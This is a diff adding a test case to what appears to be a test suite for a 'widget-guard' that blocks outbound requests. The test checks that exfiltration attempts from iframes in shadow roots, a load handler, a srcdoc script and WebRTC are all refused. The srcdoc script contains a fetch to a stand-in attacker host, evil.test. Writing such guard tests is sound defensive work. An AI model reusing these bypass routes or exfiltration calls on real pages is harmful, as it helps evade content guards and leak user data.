@@ -141,6 +141,49 @@ test('popups: document.open(url, name, features) (window.open by another name), 
   await page.close();
 });
 
+test('frames in shadow trees (open and closed roots), which are not among frames[i]: reached through contentWindow and contentDocument, a synchronous load handler, a srcdoc script, WebRTC from such a frame → refused (guard)', async () => {
+  const page = await open(PROBE);
+  const outcomes = await page.evaluate(async () => {
+    await guardReady;
+    const marker = 'adv-shadow-frames';
+    const shadowFrame = (mode) => {
+      const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode });
+      return root.appendChild(document.createElement('iframe'));
+    };
+    const results = {};
+    for (const mode of ['open', 'closed']) {
+      results[`${mode}ContentWindow`] = await probe(shadowFrame(mode).contentWindow, marker, mode + '-content-window');
+      results[`${mode}ContentDocument`] = await probe(shadowFrame(mode).contentDocument.defaultView, marker, mode + '-content-document');
+    }
+    const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
+    const early = document.createElement('iframe');
+    let fromLoad;
+    early.onload = (event) => { fromLoad = probe(event.target.contentWindow, marker, 'sync-load'); };
+    root.append(early);
+    results.syncLoadHandler = await fromLoad;
+    const srcdoc = document.createElement('iframe');
+    srcdoc.srcdoc = `<script>parent.srcdocResult = fetch('https://evil.test/${marker}/srcdoc').then(() => 'sent', (e) => /widget-guard refused/.test(e.message) ? 'TypeError (guard)' : e.message)<\/script>`;
+    await new Promise((resolve) => { srcdoc.onload = resolve; root.append(srcdoc); });
+    results.srcdocScript = await window.srcdocResult;
+    results.webrtc = await attempt(() => new (shadowFrame('closed').contentWindow.RTCPeerConnection)()).then((outcome) => outcome.error ?? 'created');
+    results.allowed = await attempt(() => shadowFrame('closed').contentWindow.fetch('https://api.test/v1/adv-shadow-frames/ok').then((r) => r.json()));
+    return results;
+  });
+  await waitForServed('api.test/v1/adv-shadow-frames/ok');
+  assertNothingLeaked('adv-shadow-frames');
+  assert.deepEqual({ ...outcomes, allowed: outcomes.allowed.value?.path }, {
+    openContentWindow: 'TypeError (guard)',
+    openContentDocument: 'TypeError (guard)',
+    closedContentWindow: 'TypeError (guard)',
+    closedContentDocument: 'TypeError (guard)',
+    syncLoadHandler: 'TypeError (guard)',
+    srcdocScript: 'TypeError (guard)',
+    webrtc: 'SecurityError',
+    allowed: '/v1/adv-shadow-frames/ok',
+  });
+  await page.close();
+});
+
 test('frames with their own scripts: a srcdoc document\'s script runs in the realm the guard already holds → refused (guard); a data: document is another origin, out of the guard\'s reach → frame-src \'none\' of the generated CSP blocks it (browser CSP)', async () => {
   const guardOnly = await open();
   const fromSrcdoc = await guardOnly.evaluate(async () => {
